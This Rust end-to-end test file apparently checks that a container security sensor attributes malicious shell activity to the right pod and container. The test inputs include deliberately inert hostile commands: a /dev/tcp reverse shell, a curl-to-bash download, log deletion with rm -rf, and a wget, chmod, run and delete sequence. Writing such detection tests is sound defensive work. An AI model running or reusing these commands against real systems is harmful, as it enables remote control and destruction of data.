//! Who ran it: real containerd and runc, pods made over CRI as a kubelet makes them.

use std::{collections::BTreeSet, path::Path, time::Instant};

use e2e::{
    containerd::{Containerd, Plan},
    image::Image,
    node::Node,
};
use serde_json::Value;

const SHELL: &str = "docker.io/local/shell:1";
const BUSYBOX: &str = "docker.io/local/busybox:1";

/// bash as Debian has it, and an image whose /bin/sh is busybox.
fn images() -> Vec<Image> {
    let shell = Image::new(SHELL)
        .program("/bin/bash")
        .and_then(|image| image.program("/bin/sleep"))
        .and_then(|image| image.program("/usr/bin/unshare"))
        .expect("a program")
        .entrypoint(&["/bin/sleep", "86400"]);
    let busybox = Image::new(BUSYBOX)
        .file("/bin/busybox", Path::new("/bin/busybox"))
        .link("/bin/sh", "busybox")
        .entrypoint(&["/bin/sh"]);
    vec![shell, busybox]
}

fn node(containerd: &Containerd, args: &[&str]) -> Node {
    let socket = containerd.socket();
    let mut all = vec!["--container-runtime", socket.to_str().expect("a path")];
    all.extend(args);
    Node::start(&all).expect("a node")
}

/// Malicious by any model, and inert: the address is one for documentation, and `:` runs instead.
fn attack(number: usize) -> String {
    format!(
        ": || bash -i >& /dev/tcp/192.0.2.{}/4444 0>&1; : || curl -s http://192.0.2.7/x{number} | bash; : || rm -rf /var/log; : {number}",
        number % 250 + 1
    )
}

fn property<'a>(finding: &'a Value, key: &str) -> &'a str {
    finding["sourceProperties"][key].as_str().unwrap_or_default()
}

fn script(finding: &Value) -> &str {
    finding["processes"][0]["script"]["contents"].as_str().unwrap_or_default()
}

/// Everything about a finding's container, in one line.
fn who(finding: &Value) -> String {
    format!(
        "{}/{} {} {}",
        property(finding, "Pod_Namespace"),
        property(finding, "Pod_Name"),
        property(finding, "Container_Name"),
        property(finding, "Container_Image_Uri"),
    )
}

#[track_caller]
fn is_complete(finding: &Value, containerd: &Containerd, id: &str) {
    let status = containerd.status(id).expect("a status");
    assert_eq!(property(finding, "Container_Id"), id, "{finding:#}");
    assert!(property(finding, "Container_Image_Id").starts_with("sha256:"), "{finding:#}");
    let created = property(finding, "Container_Creation_Timestamp");
    assert!(created.starts_with("20"), "{created:?}");
    let pod = &finding["kubernetes"]["pods"][0];
    assert_eq!(pod["ns"], property(finding, "Pod_Namespace"), "{finding:#}");
    assert_eq!(pod["containers"][0]["name"], status.metadata.expect("metadata").name, "{finding:#}");
    assert_eq!(pod["labels"][0]["name"], "app", "{finding:#}");
}

#[test]
fn a_pod_that_lives_for_milliseconds_is_known() {
    let containerd = Containerd::start(&images()).expect("containerd");
    let node = node(&containerd, &[]);
    let text = attack(1);
    let pod = containerd.pod("shop", "flash").expect("a pod");
    let plan = Plan { name: "app", image: SHELL, command: &["/bin/bash", "-c", &text], ..Plan::default() };
    let id = containerd.run(&pod, &plan).expect("a container");
    let status = containerd.wait(&id).expect("its end");
    let lived_ms = (status.finished_at - status.started_at) / 1_000_000;
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert!(lived_ms < 500, "it lived {lived_ms} ms");
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(who(&findings[0]), format!("shop/flash app {SHELL}"));
    is_complete(&findings[0], &containerd, &id);
    assert_eq!(findings[0]["sourceProperties"]["Container_Pid"], 1.0, "the first process of its container");
    let outcome = node.finish().expect("an outcome");
    assert_eq!(outcome.total("findings_incomplete_total"), 0);
    let capture = outcome.captured_once(text.as_bytes(), "command");
    assert_eq!(capture["container"]["pod"]["name"], "flash", "{capture}");
}

#[test]
fn fifty_pods_at_once_are_told_apart() {
    let containerd = Containerd::start(&images()).expect("containerd");
    let node = node(&containerd, &[]);
    let mut expected = BTreeSet::new();
    let mut created = Vec::new();
    for number in 0..50 {
        let pod = containerd.pod(&format!("team-{}", number % 7), &format!("pod-{number}")).expect("a pod");
        let (image, shell) = if number % 2 == 0 { (SHELL, "/bin/bash") } else { (BUSYBOX, "/bin/sh") };
        let text = attack(number);
        let command = [shell, "-c", &text];
        let plan = Plan { name: "main", image, command: &command, ..Plan::default() };
        let id = containerd.create(&pod, &plan).expect("a container");
        expected.insert(format!("{text} {} main {image} {id}", pod.name()));
        created.push(id);
    }
    std::thread::scope(|scope| {
        for ids in created.chunks(10) {
            let containerd = &containerd;
            scope.spawn(move || {
                for id in ids {
                    containerd.begin(id).expect("a start");
                }
            });
        }
    });
    let findings = node.wait_for(|all| all.len() >= 50).expect("findings");
    let seen: BTreeSet<String> = findings
        .iter()
        .map(|f| format!("{} {} {}", script(f), who(f), property(f, "Container_Id")))
        .collect();
    assert_eq!(seen, expected);
}

#[test]
fn an_exec_into_a_running_pod_is_the_pods_and_its_parents_are_told() {
    let containerd = Containerd::start(&images()).expect("containerd");
    let pod = containerd.pod("shop", "web-0").expect("a pod");
    let plan = Plan { name: "web", image: SHELL, command: &["/bin/sleep", "86400"], ..Plan::default() };
    // Both are there before the sensor is.
    let id = containerd.run(&pod, &plan).expect("a container");
    let node = node(&containerd, &[]);
    let inner = attack(2);
    let outer = format!("/bin/bash -c '{inner}'; :");
    containerd.exec(&id, &["/bin/bash", "-c", &outer]).expect("an exec");
    let findings = node.wait_for(|all| all.iter().any(|f| script(f) == inner)).expect("a finding");
    let finding = findings.iter().find(|f| script(f) == inner).expect("the inner one");
    assert_eq!(who(finding), format!("shop/web-0 web {SHELL}"));
    is_complete(finding, &containerd, &id);
    let parents = finding["processes"].as_array().expect("processes");
    assert!(parents[1]["args"][2].as_str().is_some_and(|text| text == outer), "{finding:#}");
    assert_eq!(parents.len(), 2, "what started it from outside of the container is no parent: {finding:#}");
}

#[test]
fn a_restart_of_the_runtime_is_survived_and_a_late_answer_completes_a_finding() {
    let mut containerd = Containerd::start(&images()).expect("containerd");
    let pod = containerd.pod("shop", "web-1").expect("a pod");
    let plan = Plan { name: "web", image: SHELL, command: &["/bin/sleep", "86400"], ..Plan::default() };
    let (first, second) = (
        containerd.run(&pod, &plan).expect("one"),
        containerd.run(&pod, &Plan { name: "late", ..plan }).expect("another"),
    );
    let node = node(&containerd, &["--enrichment-timeout", "300ms"]);
    node.wait_for_reading("containers_known", 2).expect("the list of containers");
    containerd.restart().expect("a restart");
    containerd.exec(&first, &["/bin/bash", "-c", &attack(3)]).expect("an exec");
    node.wait_for(|all| all.len() == 1).expect("a finding");
    // A sensor that starts while the runtime is down answers from the bundle, in time, and completes it later.
    drop(node);
    let node = {
        containerd.stop().expect("its end");
        let node = self::node(&containerd, &["--enrichment-timeout", "300ms"]);
        let start = Instant::now();
        containerd.exec_by_runc(&second, &["/bin/bash", "-c", &attack(4)]).expect("an exec");
        let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
        assert!(start.elapsed().as_millis() >= 300, "it did not wait");
        assert_eq!(who(&findings[0]), format!("shop/web-1 late {SHELL}"), "the bundle knows");
        assert_eq!(property(&findings[0], "Container_Image_Id"), "", "and only the runtime knows this");
        node
    };
    containerd.resume().expect("a start");
    let findings = node
        .wait_for(|all| all.iter().any(|f| !property(f, "Container_Image_Id").is_empty()))
        .expect("a completed finding");
    assert_eq!(findings.len(), 1, "it is the same finding: {findings:#?}");
    is_complete(&findings[0], &containerd, &second);
    let outcome = node.finish().expect("an outcome");
    assert_eq!(
        (outcome.total("findings_incomplete_total"), outcome.total("findings_completed_total")),
        (1, 1)
    );
}

#[test]
fn namespaces_of_its_own_do_not_hide_a_process() {
    let containerd = Containerd::start(&images()).expect("containerd");
    let node = node(&containerd, &[]);
    let pod = containerd.pod("shop", "unshared").expect("a pod");
    let text = attack(5);
    let plan = Plan {
        name: "web",
        image: SHELL,
        command: &["/usr/bin/unshare", "-U", "-r", "-p", "-m", "-C", "--fork", "/bin/bash", "-c", &text],
        capabilities: Some(&["SYS_ADMIN", "SETUID", "SETGID", "SETFCAP"]),
        ..Plan::default()
    };
    let id = containerd.run(&pod, &plan).expect("a container");
    let status = containerd.wait(&id).expect("its end");
    assert_eq!(status.exit_code, 0, "unshare was refused: {}", containerd.output(&pod, "web"));
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(who(&findings[0]), format!("shop/unshared web {SHELL}"));
    is_complete(&findings[0], &containerd, &id);
}

#[test]
fn a_process_of_the_node_is_in_no_container() {
    let containerd = Containerd::start(&images()).expect("containerd");
    let node = node(&containerd, &[]);
    e2e::shell::run("/bin/bash", &["-c", &attack(6)]).expect("a shell");
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(who(&findings[0]), "/  ");
    assert!(findings[0]["kubernetes"]["pods"].is_null(), "{:#}", findings[0]);
    assert!(findings[0]["description"].as_str().expect("text").contains("outside of containers"));
}

#[test]
fn a_containers_end_frees_its_files() {
    let containerd = Containerd::start(&images()).expect("containerd");
    let node = node(&containerd, &[]);
    let before = node.reading("shell_binaries_probed").expect("a reading");
    let pod = containerd.pod("shop", "brief").expect("a pod");
    let plan = Plan {
        name: "web",
        image: SHELL,
        command: &["/bin/bash", "-c", "/bin/sleep 0.3; eval 'echo 1'"],
        ..Plan::default()
    };
    let id = containerd.run(&pod, &plan).expect("a container");
    node.wait_for_reading("shell_binaries_probed", before + 1).expect("a probe in its shell");
    containerd.wait(&id).expect("its end");
    containerd.remove(&pod).expect("its removal");
    node.wait_for_reading("shell_binaries_probed", before).expect("no probe in it any more");
}

#[test]
fn a_finding_says_whether_its_script_was_in_the_image_or_written_since() {
    let dir = tempfile::tempdir().expect("a directory");
    let file = dir.path().join("attack.sh");
    // It lives until it is looked at.
    std::fs::write(&file, format!("{}\n/bin/sleep 1\n", attack(7))).expect("a file");
    let image = Image::new(SHELL)
        .program("/bin/bash")
        .and_then(|image| image.program("/bin/sleep"))
        .expect("a program")
        .file("/opt/attack.sh", &file)
        .entrypoint(&["/bin/sleep", "86400"]);
    let containerd = Containerd::start_on("overlayfs", &[image]).expect("containerd");
    let node = node(&containerd, &[]);
    let pod = containerd.pod("shop", "web").expect("a pod");
    let plan = Plan { name: "app", image: SHELL, ..Plan::default() };
    let id = containerd.run(&pod, &plan).expect("a container");
    for command in [
        "/bin/bash /opt/attack.sh",
        "echo \"$(</opt/attack.sh)\" > /written.sh; /bin/bash /written.sh",
        "echo \"$(</opt/attack.sh)\" > /dev/shm/memory.sh; /bin/bash /dev/shm/memory.sh",
    ] {
        containerd.exec(&id, &["/bin/bash", "-c", command]).expect("an exec");
    }
    let path =
        |finding: &Value| finding["processes"][0]["script"]["path"].as_str().unwrap_or_default().to_owned();
    let findings = node
        .wait_for(|all| all.iter().filter(|finding| !path(finding).is_empty()).count() == 3)
        .expect("findings");
    for (file, provenance) in
        [("/opt/attack.sh", "image"), ("/written.sh", "written"), ("/dev/shm/memory.sh", "memory")]
    {
        let finding = findings.iter().find(|finding| path(finding) == file).expect(file);
        assert_eq!(property(finding, "Script_Provenance"), provenance, "{finding:#}");
    }
}

#[test]
fn what_is_executed_in_a_container_by_and_by_is_one_session() {
    let containerd = Containerd::start(&images()).expect("containerd");
    let node = node(&containerd, &[]);
    let pod = containerd.pod("shop", "web").expect("a pod");
    let run = |name| {
        let plan = Plan { name, image: SHELL, ..Plan::default() };
        containerd.run(&pod, &plan).expect("a container")
    };
    let (attacked, other) = (run("app"), run("other"));
    // Neither these programs nor these files are there. Each scores low by itself.
    let steps = [
        "wget -q -O /tmp/.scriptwatch/a http://127.0.0.1:9/a",
        "chmod 777 /tmp/.scriptwatch/a",
        "/tmp/.scriptwatch/a",
        "rm -f /tmp/.scriptwatch/a",
    ];
    for (number, step) in steps.iter().enumerate() {
        containerd.exec(&attacked, &["/bin/bash", "-c", step]).expect("an exec");
        // Those that neither fetch nor run anything, in another container, are nothing.
        if number % 2 == 1 {
            containerd.exec(&other, &["/bin/bash", "-c", step]).expect("an exec");
        }
    }
    let text = steps.map(|step| format!("{step}\n")).concat();
    let findings = node.wait_for(|all| all.iter().any(|finding| script(finding) == text)).expect("a finding");
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(property(&findings[0], "Script_Origin"), "session");
    assert_eq!(who(&findings[0]), format!("shop/web app {SHELL}"));
}
